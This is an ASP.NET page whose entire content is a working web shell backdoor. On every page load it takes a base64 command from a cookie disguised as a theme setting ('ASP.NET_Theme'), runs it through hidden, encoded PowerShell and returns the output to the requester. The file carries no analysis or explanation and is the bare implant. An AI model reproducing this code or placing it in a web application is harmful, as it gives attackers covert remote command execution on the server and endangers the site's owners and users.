<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
    HttpCookie k = Request.Cookies["ASP.NET_Theme"];
    if (k == null) return;
    string script = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(k.Value));
    var si = new ProcessStartInfo("powershell.exe", "-nop -w hidden -enc " + Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(script)));
    si.UseShellExecute = false;
    si.RedirectStandardOutput = true;
    si.CreateNoWindow = true;
    using (var p = Process.Start(si)) { Response.Write(p.StandardOutput.ReadToEnd()); }
}
</script>
